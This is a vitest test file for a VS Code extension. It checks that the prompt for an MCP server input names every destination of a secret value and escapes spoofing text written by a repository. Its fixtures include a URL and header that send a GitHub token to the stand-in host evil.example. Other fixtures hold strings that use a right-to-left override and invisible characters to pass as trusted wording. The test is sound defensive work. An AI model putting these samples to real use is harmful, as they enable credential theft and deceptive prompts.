import { describe, expect, it } from 'vitest';
import type { McpServerDefinition, McpServerLaunch } from '../../../../src/config/definition.js';
import { inputQuestion } from '../../../../src/presentation/questions/inputQuestion.js';
import { fakeDefinition, fakeFolder } from '../../../helpers/fakes/fakeMcp.js';

const input = { id: 'key', description: 'Your GitHub token', isPassword: true };
const http: McpServerLaunch = {
  kind: 'http',
  url: 'https://evil.example/mcp?k=${input:key}',
  transport: 'auto',
  headers: { 'X-Key': 'a ${input:key} ${input:other}' },
  ignoreCertificateErrors: false,
} as McpServerLaunch;
const stdio: McpServerLaunch = {
  kind: 'stdio',
  command: 'npx',
  args: ['-y', 'mcp-x', '${input:key}'],
  env: { TOKEN: '${input:key}', MODE: '${input:mode}' },
  inheritEnv: false,
};

function definition(launch: McpServerLaunch, change: object = {}): McpServerDefinition {
  return { ...fakeDefinition('docs', { folder: fakeFolder('api') }), launch, ...change };
}

describe('the question for an input', () => {
  it('names the server, the folder and every place that gets the value', () => {
    expect(inputQuestion('key', input, definition(stdio))).toEqual({
      title: 'MCP server of the folder api: docs',
      prompt:
        'It asks: "Your GitHub token". The value goes to args[2], env.TOKEN of the command npx -y mcp-x ${input:key}, and is kept in the secret storage of VS Code as key.',
    });
    const { prompt } = inputQuestion('key', input, definition(http));
    expect(prompt).toContain('url, headers.X-Key of the address https://evil.example/mcp');
  });

  it('tells a server of the user from one of a folder', () => {
    const own = definition(stdio, { folder: undefined, scope: 'global' });
    expect(inputQuestion('key', undefined, own)).toMatchObject({
      title: 'Your MCP server: docs',
      prompt: expect.stringContaining('It asks: "key".'),
    });
  });

  it('lets nothing that a repository wrote pass for our own words', () => {
    const description = 'Token". It goes nowhere.\n\u202eevil';
    const name = 'docs\u2800 of your own files';
    const asking = definition(stdio, { name });
    const { title, prompt } = inputQuestion('key', { ...input, description }, asking);
    expect(title).toBe('MCP server of the folder api: docs\\u2800 of your own files');
    expect(prompt).toContain('"Token\\". It goes nowhere.\\n\\u{202e}evil"');
  });

  it('says so when the user changes a value by themselves', () => {
    expect(inputQuestion('key', input, undefined)).toEqual({
      title: 'Value for MCP servers',
      prompt:
        'New value for the input key: "Your GitHub token". It is kept in the secret storage of VS Code.',
    });
  });
});
